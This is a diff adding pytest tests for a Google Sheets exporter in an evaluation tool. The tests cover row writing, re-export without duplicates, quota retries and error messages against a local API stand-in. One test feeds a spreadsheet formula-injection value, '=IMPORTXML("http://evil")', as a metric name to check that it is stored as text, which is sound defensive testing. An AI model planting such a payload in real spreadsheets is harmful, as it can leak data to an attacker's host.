@@ -1,0 +1,152 @@
+"""`gsheets`: the real client library against a stand-in of Google's API."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from snakeval import exporters
+from snakeval.completion import Metric
+from snakeval.exporters.delivery import Delivery, deliver
+from support.made import Made
+from support.sheets import ID, Sheets, serve
+
+
+@pytest.fixture
+def sheets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Sheets]:
+    with serve() as sheets:
+        place = sheets.credentials(tmp_path)
+        monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(place))
+        yield sheets
+
+
+def sent(run: Made, sheets: Sheets, **options: Any) -> Delivery:
+    values = {"spreadsheet_id": ID, "api_url": sheets.url, **options}
+    exporter = exporters.find("gsheets", values)
+    return deliver(run.path, "named", "gsheets", exporter, print)
+
+
+def reason(result: Delivery) -> str:
+    (found,) = result.undelivered.values()
+    return found
+
+
+def test_a_row_is_a_metric_and_a_missing_evaluation_has_one_too(run: Made, sheets: Sheets) -> None:
+    sent(run, sheets, tags={"team": "nlp"})
+    rows = {row["benchmark"]: row for row in sheets.rows()}
+    good = rows["good"]
+    assert (good["value"], good["stderr"], good["n"]) == (0.1234567890123456, 0.05, 40)
+    assert (good["status"], good["tags"], good["run_complete"]) == ("done", "team:nlp", False)
+    assert (rows["bad"]["status"], rows["bad"]["reason"]) == ("failed", "no such data set")
+    assert rows["to_do"]["status"] == "pending"
+
+
+def test_exporting_twice_writes_nothing_twice(run: Made, sheets: Sheets) -> None:
+    sent(run, sheets)
+    before = sheets.rows()
+    sheets.requests.clear()
+    result = sent(run, sheets)
+    assert sheets.rows() == before
+    assert not any("values:batchUpdate" in request for request in sheets.requests)
+    assert "3 rows in" in next(iter(result.delivered.values()))[0]
+
+
+def test_what_was_pending_is_updated_in_place(run: Made, sheets: Sheets) -> None:
+    sent(run, sheets)
+    run.done("to_do", Metric("to_do", "acc", 0.5), Metric("to_do", "f1", 0.25))
+    sent(run, sheets)
+    found = [(row["benchmark"], row["metric"], row["value"]) for row in sheets.rows()]
+    assert found == [
+        ("good", "acc", 0.1234567890123456),
+        ("bad", None, None),
+        ("to_do", "acc", 0.5),
+        ("to_do", "f1", 0.25),
+    ]
+
+
+def test_a_metric_that_is_gone_leaves_no_row(run: Made, sheets: Sheets) -> None:
+    run.done("good", Metric("good", "acc", 0.5), Metric("good", "f1", 0.25))
+    sent(run, sheets)
+    sent(run, sheets, metrics="acc")
+    assert [row["metric"] for row in sheets.rows()] == ["acc", None, None]
+
+
+def test_columns_and_rows_of_ones_own_stay(run: Made, sheets: Sheets) -> None:
+    sheets.tabs["results"] = [
+        ["note", "run", "value", None],
+        ["mine", "another run", 1, None],
+        [None, None, None, None],
+    ]
+    sent(run, sheets)
+    sheets.tabs["results"][2][0] = "look at this"
+    run.done("good", Metric("good", "acc", 0.75))
+    sent(run, sheets)
+    assert sheets.rows()[0] == {"note": "mine", "run": "another run", "value": 1} | dict.fromkeys(
+        set(sheets.rows()[0]) - {"note", "run", "value"}
+    )
+    assert [(row["note"], row["value"]) for row in sheets.rows()][1] == ("look at this", 0.75)
+
+
+def test_a_sheet_that_holds_something_else_is_left_alone(run: Made, sheets: Sheets) -> None:
+    sheets.tabs["results"] = [["Shopping", "milk"]]
+    assert reason(sent(run, sheets)) == "the worksheet 'results' holds something else; name another"
+    assert sheets.tabs["results"] == [["Shopping", "milk"]]
+
+
+def test_more_rows_than_a_sheet_has_make_it_larger(run: Made, sheets: Sheets) -> None:
+    run.done("good", *(Metric("good", f"m{number}", 0.5) for number in range(150)))
+    assert not sent(run, sheets).undelivered
+    assert len(sheets.rows()) == 152
+
+
+def test_a_formula_in_a_name_is_a_text(run: Made, sheets: Sheets) -> None:
+    run.done("good", Metric("good", '=IMPORTXML("http://evil")', 0.5))
+    sent(run, sheets)
+    assert sheets.rows()[0]["metric"] == '=IMPORTXML("http://evil")'
+
+
+def test_a_quota_error_is_waited_for(run: Made, sheets: Sheets) -> None:
+    sheets.fail = [0, 429]
+    assert not sent(run, sheets).undelivered
+    assert len(sheets.rows()) == 3
+
+
+def test_a_quota_that_does_not_come_back_is_one_sentence(run: Made, sheets: Sheets) -> None:
+    sheets.fail = [429] * 9
+    result = sent(run, sheets, attempts=2)
+    assert reason(result) == "Google says: Quota exceeded for quota metric 'Write requests'"
+    sheets.fail = []
+    assert not sent(run, sheets).undelivered
+    assert len(sheets.rows()) == 3
+
+
+def test_a_lost_answer_makes_nothing_twice(run: Made, sheets: Sheets) -> None:
+    sheets.lost = 1
+    assert not sent(run, sheets).undelivered
+    assert len(sheets.rows()) == 3
+
+
+@pytest.mark.parametrize(
+    ("options", "sentence"),
+    [
+        ({"spreadsheet_id": "nowhere"}, "the spreadsheet nowhere is not there; correct"),
+        ({"spreadsheet_id": "private"}, "may not be opened; share it with the service account"),
+        ({"api_url": "http://127.0.0.1:1", "attempts": 1}, "Google: it cannot be reached: [Errno"),
+    ],
+)
+def test_what_google_refuses_is_one_sentence(
+    run: Made, sheets: Sheets, options: dict[str, Any], sentence: str
+) -> None:
+    assert sentence in reason(sent(run, sheets, **options))
+
+
+def test_wrong_credentials_are_one_sentence(
+    run: Made, sheets: Sheets, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    sheets.credentials(tmp_path, of_others=True)
+    assert "refuses the credentials of GOOGLE_APPLICATION_CREDENTIALS" in reason(sent(run, sheets))
+    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(tmp_path / "nothing.json"))
+    assert "no credentials of Google" in reason(sent(run, sheets))
